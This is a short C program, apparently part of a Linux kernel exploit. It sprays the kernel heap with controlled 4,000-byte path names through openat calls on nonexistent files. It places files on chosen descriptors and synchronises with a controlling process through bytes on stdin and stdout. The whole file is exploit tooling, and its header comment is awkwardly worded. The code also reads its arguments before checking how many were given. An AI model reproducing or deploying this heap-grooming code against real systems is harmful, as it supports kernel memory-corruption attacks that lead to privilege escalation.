/* longnames PLACE FIRST SECOND: opens with names that fill a payload heap, each of which is known.
 *
 * In the directory PLACE, whose path is long, there are files f0, f1, …. First FIRST times in turn: a name of 4,000 bytes that
 * is not there (its number stands in `dirfd`, which an absolute name makes the kernel ignore), and file fN, which becomes descriptor
 * 10 + N. Then it writes a byte to descriptor 1, waits for one on 0, and opens f0; the same once more; and opens f0 to f(SECOND-1), onto
 * the next descriptors. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static void into(const char *name, int number) {
    int fd = syscall(SYS_openat, AT_FDCWD, name, O_RDONLY, 0);
    if (fd != number && (dup2(fd, number) != number || close(fd)))
        _exit(1);
}

int main(int argc, char **argv) {
    int first = atoi(argv[2]), second = atoi(argv[3]);
    char name[4096], file[32], byte = 0;
    if (argc < 4 || chdir(argv[1]))
        return 1;
    for (int i = 0; i < first; i++) {
        memset(name, 'n', 4000);
        memcpy(name, "/none/", 6);
        sprintf(name + 3990, "%010d", i);
        syscall(SYS_openat, i, name, O_RDONLY, 0);
        sprintf(file, "f%d", i);
        into(file, 10 + i);
    }
    for (int turn = 0; turn < 2; turn++) {
        if (write(1, &byte, 1) != 1 || read(0, &byte, 1) != 1)
            return 1;
        if (!turn)
            into("f0", 9);
    }
    for (int i = 0; i < second; i++) {
        sprintf(file, "f%d", i);
        into(file, 10 + first + i);
    }
    return 0;
}
